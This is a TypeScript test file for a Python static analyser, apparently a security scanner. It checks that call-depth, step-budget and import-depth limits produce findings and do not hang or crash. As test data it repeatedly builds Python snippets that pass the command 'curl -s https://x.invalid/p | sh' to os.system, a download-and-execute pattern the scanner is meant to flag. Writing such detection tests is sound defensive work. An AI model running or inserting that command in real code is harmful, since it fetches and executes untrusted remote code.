// The analysis is bounded: calls are followed with their arguments at most MAX_CALL_DEPTH deep, re-analyses share
// a step budget proportional to the size of the code, imports nest at most MAX_IMPORT_DEPTH deep, expressions at
// most a fixed depth. Code built to exceed a bound gets a blocking finding instead of a pass, a hang or a crash;
// legitimate code stays well inside them.
import { analyzePython, analyzePythonProgram, MAX_CALL_DEPTH, MAX_IMPORT_DEPTH } from '../../../src/analyze/python/analyze.js';

const CMD = '"curl -s https://x.invalid/p | sh"';

/** n wrappers, each passing (callable, command) to the next; the last calls it. */
function wrappers(n: number): string {
  let src = 'import os\n';
  for (let i = 0; i < n; i++) src += `def w${i}(f, c):\n    w${i + 1}(f, c)\n`;
  return `${src}def w${n}(f, c):\n    f(c)\nw0(os.system, ${CMD})\n`;
}

describe('call depth', () => {
  test('a chain of wrappers within the depth limit is followed to the call', () => {
    const hits = analyzePython(wrappers(MAX_CALL_DEPTH - 2)).hits;
    expect(hits.some((h) => h.check === 'code.download-exec' && h.severity === 'critical')).toBe(true);
    expect(hits.some((h) => h.check === 'code.analysis-limit')).toBe(false);
  });

  test('a deeper chain is refused with a blocking finding naming the limit', () => {
    const hits = analyzePython(wrappers(MAX_CALL_DEPTH + 3)).hits;
    const limit = hits.find((h) => h.check === 'code.analysis-limit');
    expect(limit?.severity).toBe('high');
    expect(limit?.message).toContain(`more than ${MAX_CALL_DEPTH} deep`);
  });

  test('recursion with a callable argument ends without a limit finding', () => {
    const src = `import os\ndef walk(f, c, n):\n    if n:\n        walk(f, c, n - 1)\n    f(c)\nwalk(os.system, ${CMD}, 3)\n`;
    const hits = analyzePython(src).hits;
    expect(hits.some((h) => h.check === 'code.download-exec')).toBe(true);
    expect(hits.some((h) => h.check === 'code.analysis-limit')).toBe(false);
  });
});

describe('step budget', () => {
  test('calls that multiply their arguments exhaust the budget and say so', () => {
    // Each level calls the next three times with different text: 3^13 analyses if nothing stopped it.
    let src = '';
    for (let i = 0; i < 13; i++) src += `def f${i}(g, c):\n    f${i + 1}(g, c + "a")\n    f${i + 1}(g, c + "b")\n    f${i + 1}(g, c + "c")\n`;
    src += 'def f13(g, c):\n    g(c)\nimport os\nf0(os.system, "x")\n';
    const hits = analyzePython(src).hits;
    expect(hits.some((h) => h.check === 'code.analysis-limit' && h.message.includes('step budget'))).toBe(true);
  });

  test('the same amount of ordinary code with plain arguments needs no limit', () => {
    let src = '';
    for (let i = 0; i < 13; i++) src += `def f${i}(n):\n    f${i + 1}(n + 1)\n    f${i + 1}(n + 2)\n    f${i + 1}(n + 3)\n`;
    src += 'def f13(n):\n    return n\nf0(1)\n';
    expect(analyzePython(src).hits).toEqual([]);
  });
});

describe('imports and nesting', () => {
  test('a chain of imported modules deeper than the limit is a finding, and every module is still analysed', () => {
    const n = MAX_IMPORT_DEPTH + 10;
    const sources = Array.from({ length: n }, (_, i) => ({ path: `m${i}.py`, text: i < n - 1 ? `import m${i + 1}\n` : `import os\nos.system(${CMD})\n`, context: 'script' as const }));
    const r = analyzePythonProgram({ sources });
    expect([...r.values()].some((m) => m.hits.some((h) => h.check === 'code.analysis-limit' && h.message.includes(`${MAX_IMPORT_DEPTH} modules deep`)))).toBe(true);
    expect(r.get(`m${n - 1}.py`)?.hits.some((h) => h.check === 'code.download-exec')).toBe(true);
  });

  test('hundreds of nested calls and imports end in a finding, not a stack overflow', () => {
    const fns = Array.from({ length: 600 }, (_, i) => `def f${i}(x):\n    return f${i + 1}(x)\n`).join('') + 'def f600(x):\n    return x\nf0(1)\n';
    expect(analyzePython(fns).hits.some((h) => h.check === 'code.parse-error' && h.message.includes('nest too deeply'))).toBe(true);
    const sources = Array.from({ length: 2000 }, (_, i) => ({ path: `p${i}.py`, text: `import p${i + 1}\n`, context: 'script' as const }));
    expect(() => analyzePythonProgram({ sources })).not.toThrow();
  });
});
